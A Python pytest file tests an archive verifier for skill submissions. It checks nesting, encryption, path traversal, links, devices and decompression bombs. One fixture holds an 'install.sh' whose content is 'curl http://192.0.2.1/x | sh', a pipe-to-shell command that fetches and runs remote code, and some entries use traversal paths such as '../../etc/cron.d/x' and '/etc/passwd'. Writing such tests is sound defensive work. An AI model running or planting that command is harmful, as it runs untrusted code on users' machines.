"""Archives inside a skill: opened within limits, and named where they are not."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile

import pytest

from submissions.verification.archives_inside import ArchiveLimits, OpenedArchives

FILES = {"install.sh": b"curl http://192.0.2.1/x | sh\n", "lib/a.py": b"print(1)\n"}
ZEROS = bytes(3 * 1024 * 1024)


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def tarred(files: dict[str, bytes], **kinds: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.type = len(content), kinds.get(name, tarfile.REGTYPE)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def encrypted(files: dict[str, bytes]) -> bytes:
    """Return a zip that says of its files that they are encrypted."""
    data = bytearray(zipped(files, zipfile.ZIP_STORED))
    for magic, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = data.find(magic)
        while place >= 0:
            data[place + flags] |= 1
            place = data.find(magic, place + 4)
    return bytes(data)


def opened(path: str, content: bytes, limits: ArchiveLimits | None = None) -> OpenedArchives:
    archives = OpenedArchives()
    archives.add(path, content, limits or ArchiveLimits())
    return archives


def words(value: object) -> str:
    """Return the part of a test's name for ``value``; bytes would give it the time at which they were packed."""
    return value if isinstance(value, str) else "bytes"


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("a.zip", zipped(FILES)),
        ("a.skill", zipped(FILES, zipfile.ZIP_STORED)),
        ("picture.png", zipped(FILES)),
        ("a.tar", tarred(FILES)),
        ("a.tar.gz", gzip.compress(tarred(FILES))),
        ("a.tgz", gzip.compress(tarred({f"./{name}": content for name, content in FILES.items()}))),
        ("a.tar.bz2", bz2.compress(tarred(FILES))),
        ("a.tar.xz", lzma.compress(tarred(FILES))),
    ],
    ids=words,
)
def test_the_files_of_an_archive_are_named_by_it(path: str, content: bytes) -> None:
    archives = opened(path, content)
    assert archives.files == {f"{path}!/{name}": content for name, content in FILES.items()}
    assert (archives.opened, archives.unread) == ({path: 2}, {})


def test_a_packed_file_has_the_name_without_its_ending() -> None:
    assert opened("data/big.csv.gz", gzip.compress(b"a,b\n")).files == {"data/big.csv.gz!/big.csv": b"a,b\n"}


def test_an_archive_in_an_archive_is_opened_too() -> None:
    inner = gzip.compress(tarred(FILES))
    archives = opened("a.zip", zipped({"x/b.tgz": inner}))
    assert archives.files == {
        "a.zip!/x/b.tgz": inner,
        **{f"a.zip!/x/b.tgz!/{name}": content for name, content in FILES.items()},
    }
    assert archives.opened == {"a.zip": 1, "a.zip!/x/b.tgz": 2}


@pytest.mark.parametrize(
    ("path", "content", "reason"),
    [
        ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(20), "kind 7z"),
        ("a.rar", b"Rar!\x1a\x07" + bytes(20), "kind rar"),
        ("a.tar.zst", b"\x28\xb5\x2f\xfd" + bytes(20), "kind zstd"),
        ("a.zip", b"PK\3\4" + bytes(50), "damaged"),
        ("a.zip", encrypted(FILES), "encrypted"),
        ("a.zip", zipped(FILES, zipfile.ZIP_LZMA), "method 14"),
        ("a.zip", zipped({"../../etc/cron.d/x": b"x"}), "climbs out"),
        ("a.zip", zipped({"/etc/passwd": b"x"}), "empty part"),
        ("a.zip", zipped({"a\\b": b"x"}), "not allowed on every system"),
        ("a.zip", zipped({"A": b"x", "a": b"y"}), "same name"),
        ("soft.tar", tarred({"l": b""}, l=tarfile.SYMTYPE), "links or devices"),
        ("hard.tar", tarred({"l": b""}, l=tarfile.LNKTYPE), "links or devices"),
        ("device.tar", tarred({"l": b""}, l=tarfile.CHRTYPE), "links or devices"),
        ("block.tar", tarred({"l": b""}, l=tarfile.BLKTYPE), "links or devices"),
        ("pipe.tar", tarred({"l": b""}, l=tarfile.FIFOTYPE), "links or devices"),
        ("climbs.tar", tarred({"../../etc/cron.d/x": b"x"}), "climbs out"),
        ("root.tar.gz", gzip.compress(tarred({"/etc/passwd": b"x"})), "empty part"),
        ("many.zip", zipped({f"{n}": b"" for n in range(5000)}), "files"),
        ("a.gz", gzip.compress(b"x" * 100, mtime=0)[:-9], "damaged"),
        ("a.xz", lzma.compress(b"x" * 100)[:-9], "too early"),
        ("a.xz", lzma.compress(b"x") + b"more", "follows its end"),
        ("a.xz", lzma.compress(b"x", preset=9), "damaged"),
        ("a.gz", gzip.compress(ZEROS), "200 times"),
        ("a.zip", zipped({"a": ZEROS}), "200 times"),
    ],
    ids=words,
)
def test_an_archive_that_is_not_opened_completely_says_why(path: str, content: bytes, reason: str) -> None:
    archives = opened(path, content)
    assert reason in archives.unread[path]
    assert archives.opened == {}
    assert not any(".." in name or name.startswith("/") for name in archives.files)


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        (ArchiveLimits(files=1), "more than 1 files"),
        (ArchiveLimits(total_bytes=30), "more bytes"),
        (ArchiveLimits(depth=0), "0 archives deep"),
    ],
)
def test_limits_count_for_all_archives_together(limits: ArchiveLimits, reason: str) -> None:
    assert reason in opened("a.zip", zipped(FILES), limits).unread["a.zip"]


def test_what_was_read_before_a_limit_is_still_checked() -> None:
    assert list(opened("a.zip", zipped(FILES), ArchiveLimits(files=1)).files) == ["a.zip!/install.sh"]


def test_archives_that_are_nested_too_deeply_are_not_opened() -> None:
    content = zipped(FILES)
    for _ in range(3):
        content = zipped({"n.zip": content})
    assert list(opened("a.zip", content).unread) == ["a.zip!/n.zip!/n.zip!/n.zip"]


def test_streams_within_each_other_are_not_unpacked_without_end() -> None:
    content = b"x" * 1000
    for _ in range(5):
        content = gzip.compress(content)
    archives = opened("a.gz", content)
    assert len(archives.unread) == 1
    assert "archives deep" in next(iter(archives.unread.values()))


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("a.docx", zipped(FILES)),
        ("notes.zip", b"plain text under the name of an archive\n"),
        ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(20)),
    ],
)
def test_what_is_no_archive_is_passed_over(path: str, content: bytes) -> None:
    assert opened(path, content) == OpenedArchives()
